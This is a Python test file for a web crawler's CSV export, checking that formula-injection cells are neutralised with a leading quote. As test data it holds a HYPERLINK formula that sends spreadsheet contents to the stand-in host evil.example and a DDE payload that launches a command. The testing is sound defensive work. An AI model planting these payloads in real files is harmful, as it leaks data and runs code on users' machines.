"""CSV formula injection (CWE-1236): a page is written by a stranger, and a title or field
that a spreadsheet takes for a formula must reach the CSV export neutralised (OWASP's rule:
a leading single quote) unless `--raw-csv` asks for cells as recorded. A real crawl, exported,
read back with `csv`."""

from __future__ import annotations

import csv
from http.server import BaseHTTPRequestHandler

from helpers import rqcrawl, seed_local, wait_finished
from servers import HTTPSite, reply

from rqcrawl.ops.exporters.csv import safe_cell
from rqcrawl.workers.runner import LocalWorkers

TITLE = '=HYPERLINK("http://evil.example/?x="&A1)'
DDE = "=cmd|' /C calc'!A0"
STARTS = ["+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain"]


def handle(req: BaseHTTPRequestHandler) -> None:
    spans = "".join(f"<span>{text}</span>" for text in STARTS)
    page = f"<html><head><title>{TITLE}</title></head><body><h1>{DDE}</h1>{spans}</body></html>"
    reply(req, 200, page.encode()) if req.path == "/" else reply(req, 404, b"not found")


def rows(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_cells_that_start_like_a_formula_are_neutralised_unless_raw_csv(redis_url, tmp_path):
    settings = tmp_path / "fields.toml"
    settings.write_text(
        '[crawl.fields]\nheading = { css = "h1::text" }\n'
        'first = { css = "span::text" }\nspans = { css = "span::text", all = true }\n'
    )
    with HTTPSite(handle, host="127.0.0.7") as http, LocalWorkers(redis_url, 1):
        seed_local(redis_url, http.base + "/", "formulas", 0, "--config", str(settings))
        wait_finished(redis_url, "formulas")
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    rqcrawl(redis_url, "export", "formulas", "-o", str(safe))
    rqcrawl(redis_url, "export", "formulas", "-o", str(raw), "--raw-csv")
    [page] = [r for r in rows(safe) if r["outcome"] == "fetched"]
    assert page["title"] == "'" + TITLE
    assert page["fields.heading"] == "'" + DDE
    assert page["fields.first"] == "'+1+1"
    assert page["fields.spans"].startswith('["+1+1"')  # JSON of a list: not a formula
    assert page["url"].startswith("http://")  # other cells as they were
    [page] = [r for r in rows(raw) if r["outcome"] == "fetched"]
    assert (page["title"], page["fields.heading"]) == (TITLE, DDE)


def test_each_formula_start_of_owasp_gets_a_quote():
    assert [safe_cell(s) for s in STARTS] == [
        "'+1+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "plain"
    ]  # fmt: skip
    assert safe_cell(200) == 200 and safe_cell(None) is None
